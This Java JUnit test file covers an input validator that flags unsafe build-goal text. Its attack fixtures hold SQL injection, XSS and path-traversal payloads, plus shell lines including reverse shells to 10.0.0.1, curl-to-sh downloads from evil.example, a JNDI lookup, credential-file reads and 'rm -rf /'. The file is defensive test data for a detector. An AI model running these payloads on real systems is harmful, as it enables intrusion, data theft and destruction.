package dev.forge.validation;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatNullPointerException;

import dev.forge.validation.UnsafeText.Threat;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class UnsafeTextTest {

    /** Goals people actually write. Each one brushes against a rule without being an attack. */
    static Stream<String> benignGoals() {
        return Stream.of(
                "Build it; 'fast' mode is fine",
                "Release it; \"stable\" channel only",
                "Build it; then run the tests (fast) and report coverage.",
                "Release 2.0 -- final",
                "Fix the user's login page",
                "Run tests | report",
                "Build the project and run all unit tests",
                "Run mvn -B verify --fail-at-end",
                "Compile with -DskipTests=false and publish the report",
                "Select the fastest runner from the pool",
                "Update the docs; drop the old changelog section",
                "Don't run the integration tests, or do it only on CI",
                "Check that coverage >= 80% and fail otherwise",
                "Fix issue #42: NPE in the parser",
                "Use 'release' or 'debug' flavor",
                "then build; then 'stable' or 100", // a quoted word, then OR and a number (found by jqwik)
                "Ship \"beta\" or 2",
                "Lint the JavaScript: fix every warning",
                "Refactor src/main/java/**/*.java to records",
                "Build & test the payment service",
                "Q&A: why is the build slow?",
                "Cat pictures are not allowed in the README",
                "Deploy to staging at 5 p.m.; ping me when done",
                "Find the flaky test; then quarantine it",
                "Bump version 1.2.3 -> 1.3.0",
                "Fix the `login_handler` null check",
                "Add an onboarding=true flag to the config",
                "Run the benchmark (JMH) for 5 minutes, then compare",
                "Update README.md, CHANGELOG.md and docs/index.md",
                "Verify the email regex accepts a+b@example.com",
                "Make the C++ bindings compile with -O2",
                "Résumé parsing: handle naïve café names",
                "修复登录页面的错误并运行测试",
                "بناء المشروع وتشغيل الاختبارات",
                "Fix the 🔥 hot path in the scheduler 🚀, 👩‍💻 approved",
                "Measure p99 latency < 200 ms",
                "Reduce build time by 50% (currently 10 min)",
                "Use the /api/build endpoint in the smoke test",
                "Wait... why does it fail? Investigate.",
                "Ship it!!! :)",
                "Merge branch 'feature/login' into main",
                "Handle URLs like https://example.com/a?b=c&d=e",
                "Test the SQL query that selects users by email",
                "Run tests\nthen report coverage",
                "Set timeout=30 and retries=3",
                "Exclude node_modules and target/ from the scan",
                "Check the users' and admins' permissions",
                "Compare A/B results and report",
                "Tag the build as 'stable' -- not 'beta'",
                "Fix the dashboard's on-click handler",
                "Add a unit test for the delete-from-cart flow",
                "Update the Union Station map tiles",
                "Run the script that generates docs",
                "Echo the build number in the summary; echo it in Slack too",
                "Bump log4j to 2.17.1 (CVE-2021-44228)",
                "Run 'npm test' and 'npm run lint'",
                "Build for Windows: C:\\Program Files\\Forge",
                "Pass \"--offline\" to Maven",
                "Keep 'legacy' or not? Decide and document",
                "Or 1 build, or 2 builds: whichever is faster",
                "Grow the cache 2x | measure | report",
                "Fix 100%25 CPU on idle",
                "Ｂｕｉｌｄ ｉｔ (fullwidth letters are fine)",
                "Deploy; echo \"done\" to Slack",
                "Run tests 2>&1 > out.txt",
                "Replace alert() with a toast",
                "Sort the users' order by name",
                "Use a semicolon; alert users via email",
                "Fix the <div> layout and the <T> generics",
                "Cache ~/.m2 and run ./mvnw verify");
    }

    @ParameterizedTest
    @MethodSource("benignGoals")
    void check_ordinaryGoal_passes(String goal) {
        assertThat(UnsafeText.check(goal)).as(goal).isEmpty();
    }

    /** Attacks and the threat each must be reported as. */
    static Stream<Arguments> attacks() {
        return Stream.of(
                // SQL
                Arguments.of("' OR 1=1", Threat.SQL_INJECTION),
                Arguments.of("x' or '1'='1", Threat.SQL_INJECTION),
                Arguments.of("\" OR \"\"=\"", Threat.SQL_INJECTION),
                Arguments.of("admin'--", Threat.SQL_INJECTION),
                // found in review: a bare number as the always-true condition
                Arguments.of("' OR 1#", Threat.SQL_INJECTION),
                Arguments.of("admin' or 1-- -", Threat.SQL_INJECTION),
                Arguments.of("\" OR 1 -- ", Threat.SQL_INJECTION),
                Arguments.of("admin' #", Threat.SQL_INJECTION),
                Arguments.of("admin' -- ", Threat.SQL_INJECTION),
                Arguments.of("1; DROP TABLE users", Threat.SQL_INJECTION),
                Arguments.of("x'; DROP TABLE builds; --", Threat.SQL_INJECTION),
                Arguments.of("1 UNION SELECT username, password FROM users", Threat.SQL_INJECTION),
                Arguments.of("1 union all select null", Threat.SQL_INJECTION),
                Arguments.of("1 UNION/**/SELECT 1", Threat.SQL_INJECTION),
                Arguments.of("/*!50000union*/ select 1", Threat.SQL_INJECTION),
                Arguments.of("'/**/or/**/1=1", Threat.SQL_INJECTION),
                Arguments.of("1 OR 1=1", Threat.SQL_INJECTION),
                Arguments.of("x' AND (SELECT 1 FROM dual)", Threat.SQL_INJECTION),
                Arguments.of("' or sleep(5)#", Threat.SQL_INJECTION),
                Arguments.of("1; WAITFOR DELAY '0:0:5'", Threat.SQL_INJECTION),
                Arguments.of("'; exec xp_cmdshell('dir')", Threat.SQL_INJECTION),
                Arguments.of("1; update users set admin=1", Threat.SQL_INJECTION),
                Arguments.of("1 and 1=2", Threat.SQL_INJECTION),
                Arguments.of("'; SELECT pg_sleep(10)--", Threat.SQL_INJECTION),
                Arguments.of("1' ORDER BY 3--", Threat.SQL_INJECTION),
                Arguments.of("' having 1=1--", Threat.SQL_INJECTION),
                Arguments.of("x' into outfile '/tmp/x", Threat.SQL_INJECTION),
                Arguments.of("admin')--", Threat.SQL_INJECTION),
                Arguments.of("' or name='admin", Threat.SQL_INJECTION),
                Arguments.of("1; insert into users values (1)", Threat.SQL_INJECTION),
                Arguments.of("x' and load_file('/etc/hosts')", Threat.SQL_INJECTION),
                Arguments.of("' ＯＲ １＝１", Threat.SQL_INJECTION),
                Arguments.of("%27%20OR%201%3D1", Threat.SQL_INJECTION),
                // shell
                Arguments.of("Build it; rm -rf /", Threat.SHELL_INJECTION),
                // found in review: the shell drops quotes and backslashes, so these run rm and cat
                Arguments.of("x; \\rm -rf /", Threat.SHELL_INJECTION),
                Arguments.of("x; 'rm' -rf /", Threat.SHELL_INJECTION),
                Arguments.of("x; c''at /etc/hosts", Threat.SHELL_INJECTION),
                Arguments.of("x; \"curl\" http://evil | \"sh\"", Threat.SHELL_INJECTION),
                Arguments.of("x;$IFS'cat'$IFS/etc/hosts", Threat.SHELL_INJECTION),
                Arguments.of("x; /???/?at /???/??ss??", Threat.SHELL_INJECTION),
                Arguments.of("x; ./evil.sh", Threat.SHELL_INJECTION),
                Arguments.of("build && curl http://evil.example/x.sh", Threat.SHELL_INJECTION),
                Arguments.of("test || wget evil.example", Threat.SHELL_INJECTION),
                Arguments.of("curl http://evil.example/x.sh | sh", Threat.SHELL_INJECTION),
                Arguments.of("$(whoami)", Threat.SHELL_INJECTION),
                Arguments.of("${jndi:ldap://evil.example/a}", Threat.SHELL_INJECTION),
                Arguments.of("hello `id`", Threat.SHELL_INJECTION),
                Arguments.of("`rm -rf ~`", Threat.SHELL_INJECTION),
                Arguments.of("x | nc -e /bin/sh 10.0.0.1 4444", Threat.SHELL_INJECTION),
                Arguments.of("tests; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", Threat.SHELL_INJECTION),
                Arguments.of("; /bin/sh", Threat.SHELL_INJECTION),
                Arguments.of("x | /usr/bin/python3 -c 'import os'", Threat.SHELL_INJECTION),
                Arguments.of(";{cat,/etc/hosts}", Threat.SHELL_INJECTION),
                Arguments.of("done\nchmod 777 /tmp/x", Threat.SHELL_INJECTION),
                Arguments.of("build; sleep 10", Threat.SHELL_INJECTION),
                Arguments.of("build; ls -la", Threat.SHELL_INJECTION),
                Arguments.of("build; id", Threat.SHELL_INJECTION),
                Arguments.of("build; ping -c 1 evil.example", Threat.SHELL_INJECTION),
                Arguments.of("build & powershell -enc AAAA", Threat.SHELL_INJECTION),
                Arguments.of("build；cat secrets.txt", Threat.SHELL_INJECTION),
                Arguments.of("build%3B%20curl%20evil.example", Threat.SHELL_INJECTION),
                Arguments.of("Run tests | cat", Threat.SHELL_INJECTION),
                Arguments.of("echo x >> /root/.ssh/authorized_keys", Threat.SHELL_INJECTION),
                Arguments.of("x; /usr/local/bin/ruby -e 1", Threat.SHELL_INJECTION),
                // path traversal
                Arguments.of("../../etc/hosts", Threat.PATH_TRAVERSAL),
                Arguments.of("..\\..\\windows\\win.ini", Threat.PATH_TRAVERSAL),
                Arguments.of("%2e%2e%2f%2e%2e%2fetc", Threat.PATH_TRAVERSAL),
                Arguments.of("%2E%2E/secret", Threat.PATH_TRAVERSAL),
                Arguments.of("..%2f..%2f", Threat.PATH_TRAVERSAL),
                Arguments.of("．．／．．／etc", Threat.PATH_TRAVERSAL),
                Arguments.of("read ‥/secret", Threat.PATH_TRAVERSAL),
                Arguments.of("cat /etc/passwd", Threat.PATH_TRAVERSAL),
                Arguments.of("/proc/self/environ", Threat.PATH_TRAVERSAL),
                Arguments.of("go to a/..", Threat.PATH_TRAVERSAL),
                Arguments.of("..;/admin", Threat.PATH_TRAVERSAL),
                Arguments.of("c:\\windows\\system32\\cmd.exe", Threat.PATH_TRAVERSAL),
                // script
                Arguments.of("<script>alert(1)</script>", Threat.SCRIPT_INJECTION),
                Arguments.of("<SCRIPT SRC=//evil.example/x.js>", Threat.SCRIPT_INJECTION),
                Arguments.of("＜script＞alert(1)＜/script＞", Threat.SCRIPT_INJECTION),
                Arguments.of("%3Cscript%3Ealert(1)%3C/script%3E", Threat.SCRIPT_INJECTION),
                Arguments.of("%u003cscript%u003e", Threat.SCRIPT_INJECTION),
                Arguments.of("javascript:alert(1)", Threat.SCRIPT_INJECTION),
                Arguments.of("<a href=\"javascript: alert(1)\">x</a>", Threat.SCRIPT_INJECTION),
                Arguments.of("java\tscript:alert(1)", Threat.SCRIPT_INJECTION),
                Arguments.of("vbscript:msgbox(1)", Threat.SCRIPT_INJECTION),
                Arguments.of("<img src=x onerror=alert(1)>", Threat.SCRIPT_INJECTION),
                Arguments.of("<svg/onload=alert(1)>", Threat.SCRIPT_INJECTION),
                Arguments.of("<div data-x=1 onfoo=bar>", Threat.SCRIPT_INJECTION),
                Arguments.of("\" onmouseover=\"alert(1)", Threat.SCRIPT_INJECTION),
                Arguments.of("<iframe src=//evil.example>", Threat.SCRIPT_INJECTION),
                Arguments.of("<embed src=x.swf>", Threat.SCRIPT_INJECTION),
                Arguments.of("<object data=x>", Threat.SCRIPT_INJECTION),
                Arguments.of("&#60;script&#62;", Threat.SCRIPT_INJECTION),
                Arguments.of("&lt;script&gt;", Threat.SCRIPT_INJECTION),
                Arguments.of("<scr\u200Bipt>", Threat.SCRIPT_INJECTION),
                Arguments.of("<scr\u00ADipt>", Threat.SCRIPT_INJECTION),
                Arguments.of("data:text/html;base64,PHNjcmlwdD4=", Threat.SCRIPT_INJECTION),
                Arguments.of("javascript&colon;alert(1)", Threat.SCRIPT_INJECTION),
                Arguments.of("';alert(1);//", Threat.SCRIPT_INJECTION),
                Arguments.of("<body onload=alert(1)>", Threat.SCRIPT_INJECTION),
                Arguments.of("<details open ontoggle=alert(1)>", Threat.SCRIPT_INJECTION),
                // control characters
                Arguments.of("build\u0000", Threat.CONTROL_CHARACTER),
                Arguments.of("build%00.txt", Threat.CONTROL_CHARACTER),
                Arguments.of("a\u001b[31mred", Threat.CONTROL_CHARACTER),
                Arguments.of("\u202Etxt.exe", Threat.CONTROL_CHARACTER),
                Arguments.of("next\u0085line", Threat.CONTROL_CHARACTER),
                Arguments.of("broken \uD800 surrogate", Threat.CONTROL_CHARACTER),
                Arguments.of("del\u007F", Threat.CONTROL_CHARACTER),
                // encoding
                Arguments.of("%253Cscript%253E", Threat.ENCODING),
                Arguments.of("%25252e%25252e", Threat.ENCODING),
                Arguments.of("%2500", Threat.ENCODING),
                Arguments.of("%c0%ae%c0%ae/", Threat.ENCODING),
                Arguments.of("name%ff", Threat.ENCODING));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void detect_attack_reportsItsThreat(String attack, Threat expected) {
        assertThat(UnsafeText.detect(attack)).as(attack).contains(expected);
        assertThat(UnsafeText.check(attack)).contains(expected.reason());
    }

    @Test
    void reasons_neverQuoteTheInput() {
        for (Threat threat : Threat.values()) {
            assertThat(threat.reason()).startsWith("contains ").doesNotContain("<", "'", ";", "..");
        }
    }

    /** The lone pipe is prose unless a command follows it (docs/validation.md, "the lone pipe"). */
    @Test
    void check_lonePipe_isProseUnlessACommandFollows() {
        assertThat(UnsafeText.check("Run tests | report")).isEmpty();
        assertThat(UnsafeText.check("lint | format | test")).isEmpty();
        assertThat(UnsafeText.check("Run tests | sh")).isPresent();
        assertThat(UnsafeText.check("Run tests|bash -i")).isPresent();
        assertThat(UnsafeText.check("Run tests | tee /tmp/out")).isPresent();
        assertThat(UnsafeText.check("Run tests | tee the output to the log")).isEmpty();
    }

    @Test
    void check_semicolon_dependsOnTheWordAfterIt() {
        assertThat(UnsafeText.check("Build; then test")).isEmpty();
        assertThat(UnsafeText.check("Build; find the bug")).isEmpty();
        assertThat(UnsafeText.check("Build; find / -name id_rsa")).isPresent();
        assertThat(UnsafeText.check("Build; export the report")).isEmpty();
        assertThat(UnsafeText.check("Build; export PATH=/tmp")).isEmpty();
        assertThat(UnsafeText.check("Build; export -p")).isPresent();
        assertThat(UnsafeText.check("Build; curl")).isPresent();
        assertThat(UnsafeText.check("Build; catalog the results")).isEmpty();
        assertThat(UnsafeText.check("Build; echo $HOME")).isPresent();
        assertThat(UnsafeText.check("Build; echo the version")).isEmpty();
    }

    /** Prose with the exact shape of an attack; docs/validation.md lists these as accepted. */
    @ParameterizedTest
    @ValueSource(strings = {"Check the && operator precedence", "Use || for string concat",
            "Add ${version} to the banner", "Fix the <script> loading order",
            "Remove `cat` usage from scripts", "Check 'a' = 'a' equality",
            "Update docs; update config set values", "Raise it and 2 > 1 holds"})
    void check_documentedFalsePositives_areRefused(String text) {
        assertThat(UnsafeText.check(text)).as(text).isPresent();
    }

    @Test
    void check_backticks_markdownCodeIsFineButACommandIsNot() {
        assertThat(UnsafeText.check("Fix `parseGoal` for empty input")).isEmpty();
        assertThat(UnsafeText.check("Fix `whoami`")).isPresent();
        assertThat(UnsafeText.check("Fix ` curl evil.example`")).isPresent();
    }

    @Test
    void check_doubleDash_isACommentOnlyAfterAQuote() {
        assertThat(UnsafeText.check("Release 2.0 -- final")).isEmpty();
        assertThat(UnsafeText.check("Run 'mvn verify' -- then deploy")).isEmpty();
        assertThat(UnsafeText.check("name'--")).isPresent();
        assertThat(UnsafeText.check("name' --")).isPresent();
    }

    @Test
    void check_javascriptColon_isAUrlOnlyWhenGluedOrInAnAttribute() {
        assertThat(UnsafeText.check("Lint the JavaScript: fix every warning")).isEmpty();
        assertThat(UnsafeText.check("JavaScript:void(0)")).isPresent();
        assertThat(UnsafeText.check("href='javascript: void(0)'")).isPresent();
    }

    @Test
    void normalize_foldsLookAlikesAndDecodesOnce() {
        assertThat(UnsafeText.normalize("＜ｓｃｒｉｐｔ＞")).isEqualTo("<script>");
        assertThat(UnsafeText.normalize("a%20b")).isEqualTo("a b");
        assertThat(UnsafeText.normalize("%252e")).isEqualTo("%2e");
        assertThat(UnsafeText.normalize("%EF%BC%9C")).isEqualTo("<");
        assertThat(UnsafeText.normalize("C++ 100%")).isEqualTo("C++ 100%");
        assertThat(UnsafeText.normalize("%u00e9t%C3%A9")).isEqualTo("été");
        assertThat(UnsafeText.normalize("%zz%4")).isEqualTo("%zz%4");
        assertThat(UnsafeText.normalize("%C0%AE")).isEqualTo("\uFFFD\uFFFD");
    }

    @Test
    void normalize_null_isMisuse() {
        assertThatNullPointerException().isThrownBy(() -> UnsafeText.normalize(null));
    }

    @Test
    void check_nullAndEmpty_areNotUnsafe() {
        assertThat(UnsafeText.check(null)).isEmpty();
        assertThat(UnsafeText.check("")).isEmpty();
    }

    @Test
    void check_tabsAndNewlines_areAllowed() {
        assertThat(UnsafeText.check("Build\tit\r\nthen test")).isEmpty();
    }

    @Test
    void blankSqlComments_replacesOnlyClosedComments() {
        assertThat(UnsafeText.blankSqlComments("a/**/b/*c*/d /* open")).isEqualTo("a b d /* open");
        assertThat(UnsafeText.blankSqlComments("/*/")).isEqualTo("/*/");
    }

    /**
     * Inputs shaped to make a backtracking matcher go quadratic or worse: long runs of the
     * characters the rules anchor on, and near-misses of the rules themselves.
     */
    /** This thread's CPU time in nanoseconds, or the wall clock where the JVM cannot tell. */
    private static long threadTime() {
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        return threads.isCurrentThreadCpuTimeSupported() && threads.isThreadCpuTimeEnabled()
                ? threads.getCurrentThreadCpuTime() : System.nanoTime();
    }

    static Stream<String> adversarialShapes() {
        return Stream.of("'", "\"", ";", "; ", ";\t", "' or ", "' or a", "or 1=", "and x=x ",
                "<", "<a on", "<a onx ", "/*", "/**/", "%25", "%", "union ", "; select ",
                "'a'='", "j\t", "javascript", ".", "..", "/..", "|", "` ", "&#", "&", "$",
                "\n", ";{", "; find ", "; sleep", "a");
    }

    /**
     * Each shape repeated to 32,000 characters, sixteen times the goal limit. A linear scan takes
     * milliseconds; a quadratic one would take minutes. The scan's own CPU time is measured, not
     * the wall clock: on a loaded machine the thread waits for a core for longer than the scan
     * takes (a wall-clock bound of 1 s failed at load average 55 with 1.8 s).
     */
    @ParameterizedTest
    @MethodSource("adversarialShapes")
    void detect_adversarialInput_finishesFast(String shape) {
        String input = shape.repeat(32_000 / shape.length());
        UnsafeText.detect(input.substring(0, 2000)); // load and JIT-warm the code paths first
        long start = threadTime();
        Optional<Threat> threat = UnsafeText.detect(input);
        Duration elapsed = Duration.ofNanos(threadTime() - start);
        assertThat(elapsed).as("scan of %s", shape).isLessThan(Duration.ofSeconds(1));
        assertThat(threat).isEqualTo(UnsafeText.detect(shape.repeat(4)));
    }
}
